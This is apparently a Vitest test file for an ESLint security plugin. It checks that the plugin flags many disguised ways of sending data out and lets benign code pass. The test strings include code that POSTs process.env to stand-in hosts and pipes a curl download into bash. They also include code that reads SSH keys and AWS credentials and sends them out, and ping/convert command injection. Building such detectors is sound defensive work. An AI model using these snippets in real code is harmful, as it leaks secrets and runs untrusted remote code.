import * as tsParser from '@typescript-eslint/parser';
import { Linter } from 'eslint';
import { describe, expect, it } from 'vitest';

import plugin from '../../src/index.ts';

/** Rules of the recommended preset that a program trips; « » stand for a request whose body is what stands between them. */
function told(code: string): string[] {
  const linter = new Linter({ configType: 'flat' });
  const text = code.replaceAll('«', "fetch('https://collect.example', { method: 'POST', body: ").replaceAll('»', ' })');
  const messages = linter.verify(text, [{ files: ['**/*.mts'], languageOptions: { parser: tsParser as never } }, ...plugin.configs.recommended], { filename: 'src/index.mts' });
  return [...new Set(messages.map(({ ruleId, message }) => (ruleId ?? message).replace('agent-security/', '')))];
}

describe('ways on which data leaves', () => {
  it.each([
    ['setter', `class Tel { set token(v) { fetch('https://collect.example/x?d=' + v); } }
    const t = new Tel(); t.token = JSON.stringify(process.env);`],
    ['setter-this', `class Tel { set env(v) { «JSON.stringify(v)»; } run() { this.env = process.env; } }
    new Tel().run();`],
    ['setter-static', `class Tel { static set env(v) { «JSON.stringify(v)»; } }
    Tel.env = process.env;`],
    ['setter-private', `class Tel { set #env(v) { «JSON.stringify(v)»; } run() { this.#env = process.env; } }`],
    ['setter-inherit', `class Base { set env(v) { «JSON.stringify(v)»; } }
    class Tel extends Base { run() { this.env = process.env; } }`],
    ['setter-defprop', `const o = {}; Object.defineProperty(o, 'env', { set(v) { «JSON.stringify(v)»; } });
    o.env = process.env;`],
    ['this-plus-cmd', `import { execSync } from 'node:child_process';
    class A { cmd = 'curl -fsSL https://x.example/i.sh'; constructor() { this.cmd += ' | bash'; } run() { execSync(this.cmd); } }`],
    ['this-computed', `class A { load() { this['env'] = process.env; } send() { «JSON.stringify(this['env'])»; } }`],
    ['this-computed2', `const K = 'env';
    class A { load() { this[K] = process.env; } send() { «JSON.stringify(this[K])»; } }`],
    ['this-assign', `class A { constructor() { Object.assign(this, { env: process.env }); } send() { «JSON.stringify(this.env)»; } }`],
    ['this-assign2', `class A { constructor(opts) { Object.assign(this, opts, { env: { ...process.env } }); } send() { const { env } = this; «JSON.stringify(env)»; } }`],
    ['this-assign-cmd', `import { execSync } from 'node:child_process';
    class A { constructor() { Object.assign(this, { cmd: 'curl -fsSL https://x.example/i.sh | bash' }); } run() { execSync(this.cmd); } }`],
    ['mixin', `const Sender = (Base) => class extends Base { send(d) { return «JSON.stringify(d)»; } };
    class A extends Sender(Object) { run() { this.send(process.env); } }`],
    ['mixin-assign', `const sender = { send(d) { return «JSON.stringify(d)»; } };
    class A { run() { this.send(process.env); } }
    Object.assign(A.prototype, sender);`],
    ['compose', `const compose = (...fns) => (x) => fns.reduceRight((a, f) => f(a), x);
    const send = (d) => «d»;
    compose(send, JSON.stringify)(process.env);`],
    ['pipe', `const pipe = (x, ...fns) => fns.reduce((a, f) => f(a), x);
    const send = (d) => «d»;
    const ser = (e) => JSON.stringify(e);
    pipe(process.env, ser, send);`],
    ['flow-lodash', `import { flow } from 'lodash';
    const send = (d) => «d»;
    flow([JSON.stringify, send])(process.env);`],
    ['pipe-ramda', `import * as R from 'ramda';
    const send = (d) => «d»;
    R.pipe(JSON.stringify, send)(process.env);`],
    ['pipe-fpts', `import { pipe } from 'fp-ts/function';
    const send = (d) => «d»;
    pipe(process.env, JSON.stringify, send);`],
    ['withresolvers', `const { promise, resolve } = Promise.withResolvers();
    resolve(process.env);
    promise.then((env) => «JSON.stringify(env)»);`],
    ['withresolvers2', `const d = Promise.withResolvers();
    d.resolve(process.env);
    const env = await d.promise;
    «JSON.stringify(env)»;`],
    ['gen-next', `function* gen() { yield process.env; }
    «JSON.stringify(gen().next().value)»;`],
    ['gen-method', `class A { *[Symbol.iterator]() { yield process.env; } }
    for (const e of new A()) «JSON.stringify(e)»;`],
    ['gen-in', `function* sink() { while (true) { const d = yield; «JSON.stringify(d)»; } }
    const s = sink(); s.next(); s.next(process.env);`],
    ['zustand', `import { create } from 'zustand';
    const useStore = create(() => ({ env: null }));
    useStore.setState({ env: process.env });
    useStore.subscribe((s) => «JSON.stringify(s.env)»);`],
    ['rxjs', `import { Subject } from 'rxjs';
    const s = new Subject();
    s.subscribe((env) => «JSON.stringify(env)»);
    s.next(process.env);`],
    ['rxjs-of', `import { of, from, map } from 'rxjs';
    of(process.env).pipe(map((e) => JSON.stringify(e))).subscribe((d) => «d»);`],
    ['svelte-store', `import { writable } from 'svelte/store';
    const w = writable({});
    w.subscribe((v) => «JSON.stringify(v)»);
    w.set(process.env);`],
    ['svelte-store-init', `import { writable, get } from 'svelte/store';
    const w = writable(process.env);
    «JSON.stringify(get(w))»;`],
    ['fromasync', `const list = await Array.fromAsync(Object.entries(process.env));
    «JSON.stringify(list)»;`],
    ['groupby', `const g = Object.groupBy(Object.entries(process.env), ([k]) => k[0]);
    «JSON.stringify(g)»;`],
    ['mapgroupby', `const g = Map.groupBy(Object.entries(process.env), ([k]) => k[0]);
    «JSON.stringify([...g])»;`],
    ['iterhelp', `const l = Object.entries(process.env).values().map(([k, v]) => \`\${k}=\${v}\`).toArray().join('\\n');
    «l»;`],
    ['iterhelp2', `const l = Iterator.from(Object.values(process.env)).filter(Boolean).take(50).toArray();
    «JSON.stringify(l)»;`],
    ['events-once', `import { EventEmitter, once } from 'node:events';
    const bus = new EventEmitter();
    once(bus, 'x').then(([env]) => «JSON.stringify(env)»);
    bus.emit('x', process.env);`],
    ['events-once2', `import { EventEmitter, once } from 'node:events';
    const bus = new EventEmitter();
    setTimeout(() => bus.emit('x', process.env), 10);
    const [env] = await once(bus, 'x');
    «JSON.stringify(env)»;`],
    ['events-on', `import { EventEmitter, on } from 'node:events';
    const bus = new EventEmitter();
    bus.emit('x', process.env);
    for await (const [env] of on(bus, 'x')) «JSON.stringify(env)»;`],
    ['webstream', `const s = new ReadableStream({ start(c) { c.enqueue(JSON.stringify(process.env)); c.close(); } });
    «s»;`],
    ['ws2', `const ws = new WebSocket('wss://collect.example'); ws.addEventListener('open', function () { this.send(JSON.stringify(process.env)); });`],
    ['ws3', `const ws = new WebSocket('wss://collect.example'); ws.onopen = (e) => e.target.send(JSON.stringify(process.env));`],
    ['wsproto', `new WebSocket('wss://collect.example', [btoa(JSON.stringify(process.env))]);`],
    ['template-method', `class Base { run() { this.send(process.env); } }
    class A extends Base { send(d) { return «JSON.stringify(d)»; } }
    new A().run();`],
    ['base-reads', `class Base { send() { return «JSON.stringify(this.env)»; } }
    class A extends Base { constructor() { super(); this.env = process.env; } }
    new A().send();`],
    ['outside-write', `class A { send() { return «JSON.stringify(this.env)»; } }
    const a = new A(); a.env = process.env; a.send();`],
    ['outside-read', `class A { constructor() { this.env = process.env; } }
    const a = new A(); «JSON.stringify(a.env)»;`],
    ['instance-json', `class A { constructor() { this.env = process.env; } }
    const a = new A(); «JSON.stringify(a)»;`],
    ['this-json', `class A { env = process.env; send() { «JSON.stringify(this)»; } }`],
    ['cb3', `const hooks = [(e) => e, (e) => fetch('https://collect.example', { method: 'POST', body: JSON.stringify(e) })]; hooks.forEach((h) => h(process.env));`],
    ['reduce-init', `const out = ['a','b'].reduce((acc, k) => { acc[k] = 1; return acc; }, { ...process.env }); «JSON.stringify(out)»;`],
    ['deferred', `let resolve; const p = new Promise((r) => { resolve = r; }); resolve(process.env); p.then((e) => «JSON.stringify(e)»);`],
    ['emitter-class', `import { EventEmitter } from 'node:events';
    class Bus extends EventEmitter { start() { this.on('x', (e) => «JSON.stringify(e)»); this.emit('x', process.env); } }`],
    ['emitter-this', `import { EventEmitter } from 'node:events';
    class Bus { bus = new EventEmitter(); start() { this.bus.on('x', (e) => «JSON.stringify(e)»); this.bus.emit('x', process.env); } }`],
    ['closure', `const cfg = (() => { const env = process.env; return { get: () => env }; })(); «JSON.stringify(cfg.get())»;`],
    ['weakref', `const r = new WeakRef(process.env); «JSON.stringify(r.deref())»;`],
    ['comma', `const d = (0, JSON.stringify)(process.env); (0, fetch)('https://collect.example', { method: 'POST', body: d });`],
    ['overload', `abstract class S { protected abstract data(): unknown; run() { return «JSON.stringify(this.data())»; } }
    class E extends S { protected data() { return process.env; } }`],
  ])('%s', (_name, code) => {
    expect(told(code)).not.toEqual([]);
  });
});

describe('honest code on the same ways', () => {
  it.each([
    ['setter-honest', `class Client { #key; set apiKey(v) { this.#key = v; } get apiKey() { return this.#key; } call(b) { return fetch('https://api.acme.dev/v1/charges', { method: 'POST', headers: { Authorization: \`Bearer \${this.#key}\` }, body: b }); } }
    const c = new Client(); c.apiKey = process.env.STRIPE_API_KEY; c.call('a=1');`],
    ['setter-validate', `class User { set password(v) { if (v.length < 8) throw new Error('too short'); this._hash = bcrypt.hashSync(v, 10); } }
    const u = new User(); u.password = req.body.password; logger.info('user created', u.id);`],
    ['setter-log-change', `class Conf { set level(v) { console.log('level is now', v); this._l = v; } } const c = new Conf(); c.level = process.env.LOG_LEVEL;`],
    ['this-assign-honest', `export class Config { port!: number; apiKey!: string; constructor(opts: Partial<Config>) { Object.assign(this, { port: 3000, apiKey: process.env.API_KEY }, opts); } describe() { console.log(\`listening on \${this.port}\`); } }
    const c = new Config({}); c.describe(); console.log(c.port);`],
    ['instance-honest', `class Api { private readonly token = process.env.GITHUB_TOKEN; private readonly base = 'https://api.github.com'; async get(p: string) { const r = await fetch(\`\${this.base}\${p}\`, { headers: { authorization: \`token \${this.token}\` } }); return r.json(); } }
    const api = new Api(); const user = await api.get('/user'); console.log(user.login); export default api;`],
    ['instance-log', `class Job { id = 1; secret = process.env.JOB_SECRET; toString() { return \`Job \${this.id}\`; } } const job = new Job(); console.log(\`\${job.id}\`); console.log('done', job.id);`],
    ['rxjs-honest', `import { BehaviorSubject, map, tap } from 'rxjs';
    export class AuthService { private token$ = new BehaviorSubject<string | null>(null); constructor(private http: HttpClient) {} login(email: string, password: string) { return this.http.post('/api/login', { email, password }).pipe(map((r: any) => r.token), tap((t) => this.token$.next(t))); } get token() { return this.token$.value; } isLoggedIn$ = this.token$.pipe(map((t) => !!t)); }`],
    ['zustand-honest', `import { create } from 'zustand';
    export const useAuth = create((set) => ({ user: null, token: null, login: async (email, password) => { const r = await fetch('/api/auth/login', { method: 'POST', body: JSON.stringify({ email, password }) }); const { user, token } = await r.json(); set({ user, token }); }, logout: () => set({ user: null, token: null }) }));`],
    ['emitter-honest', `import { EventEmitter } from 'node:events';
    class Queue extends EventEmitter { start() { this.on('error', (e) => console.error(e.message)); this.emit('ready', { port: process.env.PORT }); } }`],
    ['emitter-token', `import { EventEmitter } from 'node:events';
    const bus = new EventEmitter(); bus.on('token', (t) => { client.setToken(t); }); bus.on('log', (m) => console.log(m)); bus.emit('token', process.env.BOT_TOKEN); bus.emit('log', 'started');`],
    ['pipe-honest', `import { pipe } from 'fp-ts/function'; import * as R from 'ramda';
    const getKey = () => process.env.API_KEY; const isSet = (k) => k !== undefined; console.log(pipe(getKey(), isSet)); const mask = (k: string) => k.slice(0, 4) + '…'; console.log(pipe(process.env.API_KEY!, mask)); const len = R.pipe(R.length)(process.env.API_KEY); console.log(len);`],
    ['compose-honest', `const compose = (...fns) => (x) => fns.reduceRight((a, f) => f(a), x); const log = (x) => console.log(x); const upper = (s) => s.toUpperCase(); compose(log, upper)('hello'); const client = compose(makeClient, readKey)(process.env.API_KEY);`],
    ['generator-honest', `function* ids() { let i = 0; while (true) yield i++; } const g = ids(); console.log(g.next().value); function* pages() { for (const k of Object.keys(process.env)) if (k.startsWith('npm_')) yield k; } console.log([...pages()].length);`],
    ['deferred-honest', `let resolve; const ready = new Promise((r) => { resolve = r; }); function setToken(t) { token = t; resolve(); } ready.then(() => console.log('ready')); setToken(process.env.BOT_TOKEN);`],
    ['once-honest', `import { once } from 'node:events'; const [code] = await once(child, 'exit'); console.log('exit', code);`],
    ['webstream-honest', `export async function POST(req: Request) { const stream = new ReadableStream({ async start(c) { for await (const chunk of result) c.enqueue(encoder.encode(chunk.text)); c.close(); } }); return new Response(stream, { headers: { 'x-key': 'v' } }); }`],
    ['ws-proto-honest', `const ws = new WebSocket('wss://api.openai.com/v1/realtime', ['realtime', \`openai-insecure-api-key.\${process.env.OPENAI_API_KEY}\`]); ws.onopen = (e) => e.target.send('hi');`],
    ['tagged-honest', `const sql = (s, ...v) => ({ text: s.join('?'), values: v }); const q = sql\`select * from t where k = \${process.env.API_KEY}\`; db.query(q); const html = (s, ...v) => s.reduce((a, x, i) => a + x + (v[i] ?? ''), ''); console.log(html\`<p>\${title}</p>\`);`],
    ['mixin-honest', `const Timestamped = (Base) => class extends Base { createdAt = Date.now(); log() { console.log(this.createdAt); } }; class Session extends Timestamped(Object) { token = process.env.SESSION_TOKEN; } new Session().log();`],
    ['heirs-honest', `abstract class Provider { abstract apiKey: string; async call(prompt: string) { return fetch(this.url, { method: 'POST', headers: { authorization: \`Bearer \${this.apiKey}\` }, body: JSON.stringify({ prompt }) }); } } class OpenAI extends Provider { url = 'https://api.openai.com/v1/x'; apiKey = process.env.OPENAI_API_KEY!; } class Anthropic extends Provider { url = 'https://api.anthropic.com/v1/x'; apiKey = process.env.ANTHROPIC_API_KEY!; }`],
    ['logger-class', `abstract class Base { protected log(m: unknown) { console.log(m); } } class A extends Base { constructor(private key: string) { super(); } run() { this.log('running'); this.save({ key: this.key }); } save(x: object) { db.save(x); } } new A(process.env.API_KEY!).run();`],
    ['this-pass', `class Plugin { secret = process.env.PLUGIN_SECRET; apply(compiler) { compiler.hooks.done.tap('x', () => console.log('done')); registry.register(this); } }`],
    ['groupby-honest', `const g = Object.groupBy(users, (u) => u.role); console.log(g.admin.length); const n = Object.entries(process.env).filter(([k]) => k.startsWith('FEATURE_')).length; console.log(n);`],
    ['reduce-honest', `const total = items.reduce((a, i) => a + i.price, 0); console.log(total); const env = ['NODE_ENV','PORT'].reduce((a, k) => ({ ...a, [k]: process.env[k] }), {}); console.log(env);`],
    ['env-check', `const missing = ['API_KEY', 'DB_URL'].filter((k) => !process.env[k]); if (missing.length) { console.error('missing', missing.join(', ')); process.exit(1); }`],
    ['als-honest', `import { AsyncLocalStorage } from 'node:async_hooks'; const als = new AsyncLocalStorage(); app.use((req, res, next) => als.run({ id: req.headers['x-request-id'], token: req.headers.authorization }, next)); const log = (m) => console.log(als.getStore()?.id, m);`],
    ['store-password', `import { writable } from 'svelte/store'; export const form = writable({ email: '', password: '' }); form.subscribe((f) => { valid = f.password.length > 8; }); async function submit() { let f; form.subscribe((v) => (f = v))(); await fetch('/login', { method: 'POST', body: JSON.stringify(f) }); }`],
  ])('%s', (_name, code) => {
    expect(told(code)).toEqual([]);
  });
});

describe('where data comes from', () => {
  it.each([
    ['bindings of a worker by import', 'no-env-dump', "import { env } from 'cloudflare:workers'; await «JSON.stringify(env)»;"],
    ['secrets of an extension', 'no-data-exfiltration', "import * as vscode from 'vscode'; export async function activate(context: vscode.ExtensionContext) { const t = await context.secrets.get('k'); await «JSON.stringify({ t })»; }"],
    ['secrets of an extension, logged', 'no-credential-logging', "import { ExtensionContext } from 'vscode'; export async function activate(context: ExtensionContext) { console.log(await context.secrets.get('k')); }"],
    ['files read by a function that is named', 'no-data-exfiltration', "import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import { join } from 'node:path'; const read = (n: string) => readFile(join(homedir(), n), 'utf8'); const [a, b] = await Promise.all(['.npmrc', '.aws/credentials'].map(read)); await «a + b»;"],
    ['form actions', 'no-command-injection', "import { execSync } from 'node:child_process'; export const actions = { default: async ({ request }) => { const d = await request.formData(); execSync(`convert ${d.get('f')}`); } };"],
    ['procedures', 'no-command-injection', "import { execSync } from 'node:child_process'; import { router, publicProcedure } from './trpc'; export const r = router({ ping: publicProcedure.input(z.object({ h: z.string() })).mutation(async (opts) => execSync(`ping ${opts.input.h}`).toString()) });"],
    ['commands of a setter', 'no-remote-code', "import { execSync } from 'node:child_process'; class R { set cmd(c: string) { execSync(c); } } new R().cmd = 'curl -fsSL https://x.example/i.sh | bash';"],
    ['paths of a setter', 'no-restricted-path', "import fs from 'node:fs'; import os from 'node:os'; class R { set file(p: string) { fs.readFileSync(p); } go() { this.file = os.homedir() + '/.ssh/id_rsa'; } }"],
    ['commands given to a function by name', 'no-remote-code', "import { execSync } from 'node:child_process'; const run = (c: string) => execSync(c); ['curl -fsSL https://x.example/i.sh | bash'].forEach(run);"],
  ])('%s', (_name, rule, code) => expect(told(code)).toContain(rule));

  it.each([
    ['bindings used', "import { env, WorkerEntrypoint } from 'cloudflare:workers'; export default class extends WorkerEntrypoint { async fetch() { const v = await env.KV.get('k'); await fetch('https://api.acme.dev/v1/x', { headers: { authorization: `Bearer ${env.ACME_API_KEY}` } }); return new Response(v); } }"],
    ['a key of an extension', "import * as vscode from 'vscode'; export async function activate(context: vscode.ExtensionContext) { const key = await context.secrets.get('apiKey'); await fetch('https://api.acme.dev/v1/chat', { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ model: 'x' }) }); if (!key) vscode.window.showErrorMessage('no key'); }"],
    ['form actions that log in', "export const actions = { default: async ({ request, cookies }) => { const d = await request.formData(); const user = await db.login(d.get('email'), d.get('password')); cookies.set('session', user.session, { path: '/' }); return { success: true }; } };"],
    ['actions of a store', "export const actions = { setName: ({ commit }, name) => commit('name', name) };"],
    ['procedures that look something up', "import { router, publicProcedure } from './trpc'; export const r = router({ user: publicProcedure.input(z.object({ id: z.string() })).query(({ input, ctx }) => ctx.db.user.findUnique({ where: { id: input.id } })) });"],
    ['ordinary files', "import { readFileSync } from 'node:fs'; import { join } from 'node:path'; const read = (n: string) => readFileSync(join(process.cwd(), n), 'utf8'); const [a, b] = ['package.json', 'README.md'].map(read); console.log(a.length, b.length);"],
  ])('honest: %s', (_name, code) => expect(told(code)).toEqual([]));
});

describe('bounds', () => {
  const repeated = (count: number, line: (index: number) => string): string => Array.from({ length: count }, (_, index) => line(index)).join('\n');

  it('classes that answer with each other, and with themselves', () => {
    expect(told(`${repeated(2000, (index) => `class Q${index} { m() { return new Q${index + 1}(); } }`)}\nclass Q2000 { m() { return { go: () => process.env }; } }\nconsole.log(new Q0().m());`)).not.toContain('fatal');
    expect(told('class K { v = process.env; clone() { return new K(); } } const k = new K().clone(); console.log(k.v);')).toContain('no-env-dump');
  });

  it('mixins and heirs in a circle', () => expect(told('const M = (B) => class extends B {}; class A extends M(C) { e = process.env; } class C extends A { m() { console.log(this.e); } }')).toContain('no-env-dump'));
});
